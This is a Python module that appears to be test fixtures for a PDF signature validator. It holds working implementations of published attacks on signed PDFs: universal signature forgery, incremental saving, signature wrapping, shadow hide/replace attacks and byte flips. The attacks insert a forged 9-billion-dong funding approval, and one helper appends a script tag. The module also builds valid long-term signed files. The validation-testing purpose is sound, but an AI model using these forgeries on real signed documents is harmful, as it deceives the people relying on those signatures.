"""Attacks on signed PDFs, and the long-term files an archive must accept,
made here from the test PKI (nothing copied from public repositories).

Each attack function takes a signed PDF (bytes) and returns the tampered
bytes; the classes follow the published attacks:

* universal signature forgery (Mladenov et al., *1 Trillion Dollar Refund*,
  CCS 2019): :func:`usf_no_byterange`, :func:`usf_zero_contents`,
  :func:`usf_byterange_out_of_file`;
* incremental saving attack (same paper): :func:`incremental_saving`;
* signature wrapping (same paper): :func:`signature_wrapping`;
* shadow attacks (Mainka et al., NDSS 2021): :func:`shadow_hide`,
  :func:`shadow_replace` (and, as published, through an object stream:
  :func:`shadow_replace_in_object_stream`), :func:`shadow_hide_and_replace`
  on the form made by :func:`form_document`;
* byte flips that make a signature vanish for a lax reader:
  :func:`subfilter_flip`, :func:`fields_flip`; :func:`trailing_script`.

The good ones: :func:`long_term` adds a DSS (B-LT) and, with
``archive_timestamp=True``, a document timestamp (B-LTA).
"""
import io
import re

from .pdfs import make_pdf

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]*)>")
FORGED_TEXT = "Điều 1. Phê duyệt cấp kinh phí 9.000.000.000 đồng cho Công ty X."


def _last(pattern, data):
    found = list(pattern.finditer(data))
    assert found, pattern.pattern
    return found[-1]


def _same_length(old, new):
    assert len(new) <= len(old), (old, new)
    return new + b" " * (len(old) - len(new))


def _replace_range(pdf, found, new):
    """``found`` (a BYTE_RANGE match) replaced by ``new``, using the blanks
    pyHanko leaves after the array for the longer numbers."""
    end = found.end()
    while pdf[end:end + 1] == b" ":
        end += 1
    old = pdf[found.start():end]
    return pdf[:found.start()] + _same_length(old, new) + pdf[end:]


def _incremental(pdf_bytes, change):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf_bytes), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _stream(writer, data):
    from pyhanko.pdf_utils import generic
    return writer.add_object(generic.StreamObject(stream_data=data))


def _text_stream(text, y=600, size=14):
    """Content drawing ``text`` with the standard Helvetica (ASCII only: the
    attacker's content, not what a reader must read)."""
    safe = text.encode("ascii", "replace").replace(b"(", b"[").replace(b")", b"]")
    return b"BT /AttF %d Tf 72 %d Td (%s) Tj ET" % (size, y, safe)


def _helvetica(writer, packed=None):
    from pyhanko.pdf_utils import generic
    return writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Font"),
        generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
        generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica")}), obj_stream=packed)


# -- byte flips ----------------------------------------------------------------

def subfilter_flip(pdf):
    """``/adbe.pkcs7.detached`` → ``/adbe.p1cs7.detached`` in the last
    signature dictionary: a reader that skips unknown SubFilters loses it."""
    at = pdf.rfind(b"/adbe.pkcs7.detached")
    assert at >= 0
    return pdf[:at] + b"/adbe.p1cs7.detached" + pdf[at + 20:]


def fields_flip(pdf):
    """One byte of ``/Fields`` in the last revision's AcroForm flipped: a
    signed file reads as unsigned to a reader that trusts the form tree."""
    at = pdf.rfind(b"/Fields")
    assert at >= 0
    return pdf[:at] + b"/Fieldz" + pdf[at + 7:]


def trailing_script(pdf):
    return pdf + b"\n<script>alert('da sua van ban')</script>\n"


# -- universal signature forgery -----------------------------------------------

def usf_no_byterange(pdf):
    """The last signature's /ByteRange blanked out (same length)."""
    found = _last(BYTE_RANGE, pdf)
    return pdf[:found.start()] + b" " * (found.end() - found.start()) + pdf[found.end():]


def usf_zero_contents(pdf):
    """The last signature's /Contents all zeros."""
    found = _last(CONTENTS, pdf)
    start, end = found.span(1)
    return pdf[:start] + b"0" * (end - start) + pdf[end:]


def usf_byterange_out_of_file(pdf):
    """The last /ByteRange's second range reaching beyond the end of file."""
    found = _last(BYTE_RANGE, pdf)
    a, b, c, d = (int(v) for v in found.groups())
    # the same number of digits, so nothing else moves
    new = b"/ByteRange [%d %d %d %d]" % (a, b, c, 10 ** len(str(d)) - 1)
    assert c + 10 ** len(str(d)) - 1 > len(pdf)
    return pdf[:found.start()] + _same_length(found.group(0), new) + pdf[found.end():]


# -- incremental saving, signature wrapping --------------------------------------

def incremental_saving(pdf, text=FORGED_TEXT):
    """A well-formed later revision that replaces page 1's content."""
    from pyhanko.pdf_utils import generic

    def change(writer):
        page_ref = writer.root["/Pages"]["/Kids"][0]
        page = page_ref.get_object()
        page["/Contents"] = _stream(writer, _text_stream(text))
        page["/Resources"] = generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject({
                generic.NameObject("/AttF"): _helvetica(writer)})})
        writer.update_container(page)
    return _incremental(pdf, change)


def signature_wrapping(pdf, text=FORGED_TEXT):
    """The signed tail moved to the end, forged objects and a new xref put
    where it was, the /ByteRange pointed at the moved tail."""
    found = _last(BYTE_RANGE, pdf)
    a, b, c, d = (int(v) for v in found.groups())
    forged = (b"\n99 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
              % (len(_text_stream(text)), _text_stream(text)))
    new_c = c + len(forged)
    # same length, so the ranges' offsets stay where they were
    pdf = _replace_range(pdf, found, b"/ByteRange [%d %d %d %d]" % (a, b, new_c, d))
    head, gap, tail = pdf[:b], pdf[b:c], pdf[c:c + d]
    return head + gap + forged + tail


# -- shadow attacks on a signed form ---------------------------------------------

AMOUNT_BOX = (72, 500, 400, 530)


def _appearance(writer, text, width=328, height=30, cover=False, packed=None):
    """A text field's appearance: ``text``, on an opaque white box when
    ``cover`` (the overlay that hides what is under it)."""
    from pyhanko.pdf_utils import generic
    body = (b"1 1 1 rg 0 0 %d %d re f " % (width, height) if cover else b"") + \
        b"0 0 0 rg BT /AttF 12 Tf 4 10 Td (%s) Tj ET" % text.encode("ascii", "replace")
    stream = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject(
            [generic.NumberObject(v) for v in (0, 0, width, height)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject({
                generic.NameObject("/AttF"): _helvetica(writer, packed)})})}, stream_data=body)
    return writer.add_object(stream)


def form_document(value="1.000.000 dong", cover=True, hidden_text=FORGED_TEXT, lines=None):
    """A text PDF with a text field ``SoTien`` showing ``value`` (on an
    opaque box when ``cover``, hiding ``hidden_text`` drawn under it on the
    page), plus an unreferenced content stream carrying ``hidden_text`` —
    what the three shadow attack classes prepare before signing."""
    from pyhanko.pdf_utils import generic
    base = make_pdf(lines=lines)
    made = {}

    def prepare(writer):
        page_ref = writer.root["/Pages"]["/Kids"][0]
        page = page_ref.get_object()
        hidden = _stream(writer, _text_stream(hidden_text, y=AMOUNT_BOX[1] + 10, size=10))
        contents = page["/Contents"]
        contents = list(contents) if isinstance(contents, generic.ArrayObject) else [
            page.raw_get("/Contents")]
        page["/Contents"] = generic.ArrayObject(contents + [hidden])
        resources = page["/Resources"]
        has_fonts = "/Font" in resources
        fonts = resources["/Font"] if has_fonts else generic.DictionaryObject()
        fonts[generic.NameObject("/AttF")] = _helvetica(writer)
        if has_fonts and isinstance(resources.raw_get("/Font"), generic.IndirectObject):
            writer.update_container(fonts)
        else:
            resources[generic.NameObject("/Font")] = fonts
        if isinstance(page.raw_get("/Resources"), generic.IndirectObject):
            writer.update_container(resources)
        # the replacement content, already in the signed file but used by nothing
        made["orphan"] = _stream(writer, _text_stream(hidden_text))
        field = generic.DictionaryObject({
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/FT"): generic.NameObject("/Tx"),
            generic.NameObject("/T"): generic.TextStringObject("SoTien"),
            generic.NameObject("/V"): generic.TextStringObject(value),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/P"): page_ref,
            generic.NameObject("/Rect"): generic.ArrayObject(
                [generic.NumberObject(v) for v in AMOUNT_BOX]),
            generic.NameObject("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
            generic.NameObject("/AP"): generic.DictionaryObject({
                generic.NameObject("/N"): _appearance(writer, value, cover=cover)})})
        field_ref = writer.add_object(field)
        page[generic.NameObject("/Annots")] = generic.ArrayObject([field_ref])
        writer.update_container(page)
        writer.root[generic.NameObject("/AcroForm")] = writer.add_object(
            generic.DictionaryObject({
                generic.NameObject("/Fields"): generic.ArrayObject([field_ref])}))
        writer.update_root()
    data = _incremental(base, prepare)
    return data


def _field(writer, name="SoTien"):
    for ref in writer.root["/AcroForm"]["/Fields"]:
        if ref.get_object().get("/T") == name:
            return ref
    raise KeyError(name)


def fill_field(pdf, value, cover=False, name="SoTien"):
    """A later revision giving the text field a new value and appearance —
    a form fill, or the *replace* shadow attack, depending on who allowed it."""
    from pyhanko.pdf_utils import generic

    def change(writer):
        ref = _field(writer, name)
        field = ref.get_object()
        field[generic.NameObject("/V")] = generic.TextStringObject(value)
        field[generic.NameObject("/AP")] = generic.DictionaryObject({
            generic.NameObject("/N"): _appearance(writer, value, cover=cover)})
        writer.mark_update(ref)
    return _incremental(pdf, change)


def shadow_replace(pdf, value="9.000.000.000 dong"):
    """Shadow *replace*: the signed field's value swapped later."""
    return fill_field(pdf, value, cover=True)


def shadow_replace_in_object_stream(pdf, value="9.000.000.000 dong"):
    """Shadow *replace* as published (Mainka et al., NDSS 2021): the field
    dictionary carrying the new value, and the new appearance's font, are
    written in an object stream of the later revision (cross-reference
    stream), where a reader looking for ``n 0 obj`` finds nothing."""
    from pyhanko.pdf_utils import generic

    def change(writer):
        writer.stream_xrefs = True              # object streams need an xref stream
        packed = writer.prepare_object_stream()
        ref = _field(writer)
        field = ref.get_object()
        field[generic.NameObject("/V")] = generic.TextStringObject(value)
        field[generic.NameObject("/AP")] = generic.DictionaryObject({
            generic.NameObject("/N"): _appearance(writer, value, cover=True, packed=packed)})
        packed.add_object(ref.idnum, field)
        writer.objs_in_streams[ref.idnum] = field
    return _incremental(pdf, change)


def shadow_hide(pdf):
    """Shadow *hide*: the field's opaque overlay made transparent later,
    revealing the text drawn under it (value unchanged)."""
    from pyhanko.pdf_utils import generic

    def change(writer):
        ref = _field(writer)
        field = ref.get_object()
        field[generic.NameObject("/AP")] = generic.DictionaryObject({
            generic.NameObject("/N"): _appearance(writer, "", cover=False)})
        writer.mark_update(ref)
    return _incremental(pdf, change)


def shadow_hide_and_replace(pdf):
    """Shadow *hide-and-replace*: page 1's /Contents pointed at the content
    stream that was already in the signed file, unused."""
    from pyhanko.pdf_utils import generic

    def change(writer):
        page_ref = writer.root["/Pages"]["/Kids"][0]
        page = page_ref.get_object()
        orphan = _orphan(writer)
        page[generic.NameObject("/Contents")] = orphan
        writer.update_container(page)
    return _incremental(pdf, change)


def _orphan(writer):
    """The signed file's unreferenced stream carrying the hidden text."""
    from pyhanko.pdf_utils import generic
    marker = b"/AttF 14 Tf"
    for num in range(1, writer.prev.trailer["/Size"]):
        try:
            obj = generic.IndirectObject(num, 0, writer.prev).get_object()
        except Exception:
            continue
        if isinstance(obj, generic.StreamObject) and obj.data.startswith(b"BT " + marker):
            return generic.IndirectObject(num, 0, writer.prev)
    raise LookupError("no orphan stream")


# -- long-term signatures ---------------------------------------------------------

def validation_context(pki):
    """What the TSA and signers chain to, with the CRL, for adding a DSS."""
    from asn1crypto import crl as asn1_crl, x509 as asn1_x509
    from cryptography.hazmat.primitives import serialization
    from pyhanko_certvalidator import ValidationContext

    def der(cert):
        return asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))
    crl = asn1_crl.CertificateList.load(pki.crl.public_bytes(serialization.Encoding.DER))
    return ValidationContext(trust_roots=[der(pki.root.cert)],
                             other_certs=[der(pki.sub_ca.cert)], crls=[crl],
                             allow_fetching=False, revocation_mode="soft-fail")


def long_term(pki, pdf, archive_timestamp=False, at=None):
    """B-LT: a DSS with the chains and CRL for every signature, added in a
    later revision (pyHanko's ``add_validation_info``); with
    ``archive_timestamp`` (B-LTA) a document timestamp after it."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign import signers
    from pyhanko.sign.validation import add_validation_info
    context = validation_context(pki)
    data = pdf
    names = [s.field_name for s in PdfFileReader(io.BytesIO(pdf), strict=False).embedded_signatures]
    for name in names:
        reader = PdfFileReader(io.BytesIO(data), strict=False)
        sig = next(s for s in reader.embedded_signatures if s.field_name == name)
        data = add_validation_info(sig, context, output=io.BytesIO()).getvalue()
    if archive_timestamp:
        from datetime import datetime, timezone
        stamper = signers.PdfTimeStamper(pki.timestamper(at or datetime.now(timezone.utc)))
        writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
        data = stamper.timestamp_pdf(writer, "sha256", validation_context=context,
                                     in_place=True).getvalue()
    return data

